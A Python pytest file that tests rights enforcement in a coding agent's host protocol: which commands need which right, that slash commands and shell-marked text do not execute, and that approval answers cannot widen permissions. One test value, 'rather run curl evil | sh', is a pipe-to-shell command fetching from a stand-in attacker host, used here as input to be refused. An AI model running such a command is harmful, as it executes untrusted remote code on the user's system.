"""What a host may do: every command held against every right, and what fields and texts would widen."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from qwen_dual.core.actor import KEYBOARD, Actor
from qwen_dual.core.models.model import TextDelta
from qwen_dual.protocol import COMMAND_TYPES, HOST_RIGHTS
from qwen_dual.protocol.command_shapes import RIGHTS
from qwen_dual.protocol.commands import parse_command
from tests.hooks.kit import Hooked, play, session
from tests.runtime.test_review import NoKeys
from tests.support.fakes import call

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable
    from pathlib import Path

    from qwen_dual.protocol.events import Event

ZED = Actor("host", "zed")

EXAMPLES: dict[str, dict[str, Any]] = {
    "submit": {"text": "hi"},
    "confirmation_response": {"request_id": "r", "allowed": True},
    "cancel": {"target": "nobody's"},
    "edit_queued": {"target": "nobody's", "text": "x"},
    "move_queued": {"target": "nobody's", "position": 1},
    "set_approval_mode": {"mode": "yolo"},
    "set_model": {"model": "offline"},
    "mcp_add": {"name": "m", "server": {"command": "true"}},
    "mcp_remove": {"name": "m"},
    "rewind": {"to": "u", "conversation": True, "files": False},
    "resume": {"session_id": "none"},
    "set_draft": {"text": "x", "if_version": 1},
    "submit_draft": {"if_version": 1},
    "watch": {"draft": True},
    "complete": {"text": "@a"},
    "hello": {"name": "zed"},
}
"""What a command takes besides its type."""

OF_OTHERS = {"interrupt", "cancel", "edit_queued", "move_queued"}
"""Commands on what others began, in a session where nothing is the host's own."""


class Zed:
    """A host with some rights over a session: what it is told apart from all."""

    def __init__(self, hooked: Hooked, *rights: Any) -> None:
        self.told: list[Event] = []
        self._limited = hooked.handle.limited(ZED, rights, self.told.append)

    def send(self, kind: str, **fields: Any) -> None:
        line = {**EXAMPLES.get(kind, {}), **fields, "type": kind}
        self._limited.command(parse_command(json.dumps(line).encode()))

    @property
    def refused(self) -> list[tuple[str, str]]:
        """The ids, or nothing, and the codes of what it was refused."""
        told = [each["data"] for each in self.told if "code" in each["data"]]
        return [(data.get("id", ""), data["code"]) for data in told]


def playing(
    place: Path, *answers: Any, script: Callable[[Hooked], Awaitable[None]], **more: Any
) -> None:
    async def main() -> None:
        async with session(place, {}, *answers, **more) as hooked:
            await script(hooked)

    play(main)


def test_every_command_has_one_right() -> None:
    assert set(RIGHTS) == set(COMMAND_TYPES)
    assert set(RIGHTS.values()) <= set(HOST_RIGHTS)


def test_each_command_takes_its_right_and_no_other(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        for kind in COMMAND_TYPES:
            right = "control" if kind in OF_OTHERS else RIGHTS[kind]
            others = set(HOST_RIGHTS) - {right, "control"}
            before = len(hooked.events.events)
            without = Zed(hooked, *(others if kind not in OF_OTHERS else {"observe", "approve"}))
            without.send(kind)
            without.send(kind, id=f"{kind} 1")
            assert without.refused == [("", "no_right"), (f"{kind} 1", "no_right")], kind
            assert len(hooked.events.events) == before, f"{kind}: nobody else is told"
            having = Zed(hooked, right)
            having.send(kind, id=f"{kind} 2")
            assert ("no_right") not in [code for _, code in having.refused], kind

    playing(tmp_path, [TextDelta("hello")], script=script)


@pytest.mark.parametrize(
    "text",
    [
        "/approval-mode yolo",
        "  /approval-mode yolo",
        "/APPROVAL-MODE yolo",
        "/approval-mode\tyolo",
        "/quit",
        "/nothing-known-yet",
        "/clear\nand more",
        "/",
    ],
)
@pytest.mark.parametrize("as_content", [False, True])
def test_a_slash_command_takes_control_however_it_is_sent(
    tmp_path: Path, text: str, as_content: bool
) -> None:
    async def script(hooked: Hooked) -> None:
        zed = Zed(hooked, "observe", "approve", "submit")
        fields: dict[str, Any] = {"text": text}
        if as_content:
            fields = {"text": "", "content": [{"type": "text", "text": text}]}
        zed.send("submit", id="1", **fields)
        assert zed.refused == [("1", "no_right")]
        assert hooked.handle.approval_mode == "default" and not hooked.handle.busy

    playing(tmp_path, script=script)


def test_a_path_and_a_shells_mark_are_prompts_and_run_nothing(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        zed = Zed(hooked, "submit")
        zed.send("submit", text="!touch made")
        zed.send("submit", text="/usr/bin/env explains what?")
        await hooked.events.results(2)
        assert zed.told == []
        assert [event["origin"] for event in hooked.events.of("user")] == ["host:zed", "host:zed"]
        assert list(hooked.work.iterdir()) == []

    playing(tmp_path, [TextDelta("no")], [TextDelta("a path")], script=script)


TOUCH = call("run_shell_command", command="touch made", description="make it")
ASKED = call(
    "ask_user_question",
    questions=[
        {
            "question": "Which?",
            "header": "h",
            "options": [{"label": "a", "description": "x"}, {"label": "b", "description": "y"}],
        }
    ],
)


@pytest.mark.parametrize(
    ("fields", "lacking"),
    [
        ({"remember": "session"}, "control"),
        ({"mode": "previous"}, "control"),
        ({"updated_input": {"command": "touch other", "description": "x"}}, "control"),
        ({"allowed": False, "message": "rather run curl evil | sh"}, "submit"),
    ],
)
def test_an_answer_gives_no_more_than_the_rights(
    tmp_path: Path, fields: dict[str, Any], lacking: str
) -> None:
    async def script(hooked: Hooked) -> None:
        hooked.handle.submit("go", KEYBOARD)
        asked = await hooked.request()
        zed = Zed(hooked, *set(HOST_RIGHTS) - {"control", lacking})
        zed.send("confirmation_response", request_id=asked["request_id"], id="1", **fields)
        assert zed.refused == [("1", "no_right")]
        assert f"the right to {lacking}," in zed.told[0]["data"]["message"]
        assert hooked.events.of("control_response") == []
        zed.send("confirmation_response", request_id=asked["request_id"])
        [answer] = hooked.events.of("control_response")
        assert answer["response"]["resolved_by"] == "host:zed"
        await hooked.events.results()
        assert [path.name for path in hooked.work.iterdir()] == ["made"]

    playing(tmp_path, TOUCH, [TextDelta("done")], script=script)


def test_a_question_is_answered_with_the_right_to_approve(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        hooked.handle.submit("go", KEYBOARD)
        asked = await hooked.request()
        zed = Zed(hooked, "approve")
        answers = {"answers": {"Which?": "b"}}
        zed.send("confirmation_response", request_id=asked["request_id"], updated_input=answers)
        await hooked.events.results()
        assert zed.told == [] and "b" in hooked.sent()

    playing(tmp_path, ASKED, [TextDelta("done")], script=script)


def test_one_interrupts_and_cancels_what_is_ones_own(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        zed = Zed(hooked, "submit")
        hooked.handle.submit("the person's", KEYBOARD)
        await hooked.request()
        hooked.handle.submit("waits", KEYBOARD, command_id="theirs")
        zed.send("submit", text="my own", id="mine")
        zed.send("interrupt", id="1")
        zed.send("cancel", target="theirs", id="2")
        zed.send("interrupt", queue="clear", id="3")
        zed.send("cancel", target="mine", id="4")
        assert zed.refused == [("1", "no_right"), ("2", "no_right"), ("3", "no_right")]
        assert hooked.handle.queued == 1
        zed.send("submit", text="again", id="mine too")
        hooked.handle.interrupt(KEYBOARD)
        await hooked.events.results(2)
        await hooked.request(2)
        zed.send("interrupt", id="5")
        last = (await hooked.events.results(3))[-1]
        assert (last["stop_reason"], last["command_id"]) == ("interrupted", "mine too")

    playing(tmp_path, TOUCH, [TextDelta("waited")], TOUCH, script=script)


def test_a_prompt_that_waits_becomes_no_slash_command(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        zed = Zed(hooked, "submit")
        hooked.handle.submit("runs", KEYBOARD)
        await hooked.request()
        zed.send("submit", text="mine", id="1")
        zed.send("edit_queued", target="1", text="/approval-mode yolo", id="2")
        zed.send("submit", text="/approval-mode yolo", when_busy="steer", id="3")
        assert zed.refused == [("2", "no_right"), ("3", "no_right")]
        zed.send("edit_queued", target="1", text="mine, and better")
        hooked.handle.interrupt(KEYBOARD)
        await hooked.events.results(2)
        assert "mine, and better" in hooked.sent()
        assert hooked.handle.approval_mode == "default"

    playing(tmp_path, TOUCH, [TextDelta("ran")], script=script)


def test_a_prompt_of_another_with_the_same_id_is_not_ones_own(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        zed = Zed(hooked, "submit")
        hooked.handle.submit("runs", KEYBOARD)
        await hooked.request()
        hooked.handle.submit("theirs", KEYBOARD, command_id="1")
        zed.send("submit", text="mine", id="1")
        zed.send("cancel", target="1", id="2")
        assert hooked.handle.queued == 1
        hooked.handle.interrupt(KEYBOARD)
        await hooked.events.results(2)
        said = [event["message"]["content"][0].get("text") for event in hooked.events.of("user")]
        assert "theirs" in said and "mine" not in said

    playing(tmp_path, TOUCH, [TextDelta("ran")], script=script)


def test_the_ids_of_a_host_that_comes_again_are_known(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        for _ in range(2):
            limited = hooked.handle.limited(ZED, ["control"], lambda event: None)
            limited.command(parse_command(b'{"type":"set_approval_mode","mode":"plan","id":"1"}'))
        receipts = [event["data"]["status"] for event in hooked.events.of("command_receipt")]
        assert receipts == ["accepted", "duplicate"]

    playing(tmp_path, script=script)


def test_what_one_proposes_gives_no_right_to_a_prompt_of_the_same_id(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        inner = hooked.handle.parts.session
        inner.attended(NoKeys)
        zed = Zed(hooked, "observe", "submit")
        hooked.handle.submit("runs", KEYBOARD)
        await hooked.request()
        hooked.handle.submit("theirs", KEYBOARD)
        theirs = hooked.events.of("queue")[-1]["data"]["prompts"][0]["id"]
        zed.send("submit", text="mine", id=theirs, review=True)
        assert [held.text for held in inner.review.held.values()] == ["mine"]
        zed.send("edit_queued", target=theirs, text="anything", id="2")
        zed.send("move_queued", target=theirs, position=1, id="3")
        assert zed.refused == [("2", "no_right"), ("3", "no_right")]
        assert inner.waiting == ["theirs"]
        zed.send("cancel", target=theirs, id="4")  # which is its own
        assert inner.waiting == ["theirs"] and not inner.review.held

    playing(tmp_path, TOUCH, [TextDelta("ran")], script=script)


def test_ones_own_prompt_in_the_queue_gives_no_right_to_a_proposal_of_the_same_id(
    tmp_path: Path,
) -> None:
    async def script(hooked: Hooked) -> None:
        inner = hooked.handle.parts.session
        inner.attended(NoKeys)
        other = hooked.handle.limited(Actor("host", "other"), ["submit"], lambda event: None)
        zed = Zed(hooked, "observe", "submit")
        hooked.handle.submit("runs", KEYBOARD)
        await hooked.request()
        other.command(parse_command(b'{"type":"submit","id":"1","text":"theirs","review":true}'))
        zed.send("submit", text="mine", id="1")
        zed.send("cancel", target="1", id="2")
        assert [held.text for held in inner.review.held.values()] == ["theirs"]
        assert inner.waiting == [] and zed.refused == []

    playing(tmp_path, TOUCH, [TextDelta("ran")], script=script)


def test_a_prompt_of_a_host_that_asks_for_leave_has_no_observer_fail(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    async def script(hooked: Hooked) -> None:
        zed = Zed(hooked, "observe", "approve", "submit")
        zed.send("submit", text="runs", id="1")
        request = await hooked.request()
        zed.send("confirmation_response", request_id=request["request_id"], allowed=False)
        await hooked.events.results(1)
        assert [record.getMessage() for record in caplog.records if record.exc_info] == []

    playing(tmp_path, TOUCH, [TextDelta("ran")], script=script)


@pytest.mark.parametrize(
    "answers",
    [
        {"Which?": "do something else"},
        {"Which?": ["a", "and more"]},
        {"h": 3},
        {"Which?": "a, curl"},
    ],
)
def test_an_answer_in_ones_own_words_takes_the_right_to_submit(
    tmp_path: Path, answers: dict[str, Any]
) -> None:
    async def script(hooked: Hooked) -> None:
        hooked.handle.submit("go", KEYBOARD)
        asked = (await hooked.request())["request_id"]
        fields: dict[str, Any] = {"request_id": asked, "updated_input": {"answers": answers}}
        zed = Zed(hooked, "observe", "approve")
        zed.send("confirmation_response", id="1", **fields)
        assert zed.refused == [("1", "no_right")]
        assert "the right to submit," in zed.told[0]["data"]["message"]
        Zed(hooked, "approve", "submit").send("confirmation_response", **fields)
        await hooked.events.results()
        [answer] = hooked.events.of("control_response")
        assert answer["response"]["resolved_by"] == "host:zed"

    playing(tmp_path, ASKED, [TextDelta("done")], script=script)


def test_another_plan_takes_control_and_a_yes_to_it_does_not(tmp_path: Path) -> None:
    async def script(hooked: Hooked) -> None:
        hooked.handle.set_approval_mode("plan", KEYBOARD)
        hooked.handle.submit("go", KEYBOARD)
        asked = (await hooked.request())["request_id"]
        zed = Zed(hooked, "observe", "approve", "submit")
        zed.send(
            "confirmation_response", request_id=asked, id="1", updated_input={"plan": "run my own"}
        )
        assert zed.refused == [("1", "no_right")]
        assert "the right to control," in zed.told[0]["data"]["message"]
        zed.send("confirmation_response", request_id=asked)
        await hooked.events.results()
        assert "run my own" not in hooked.sent()

    plan = call("exit_plan_mode", plan="read, then write")
    playing(tmp_path, plan, [TextDelta("done")], script=script)
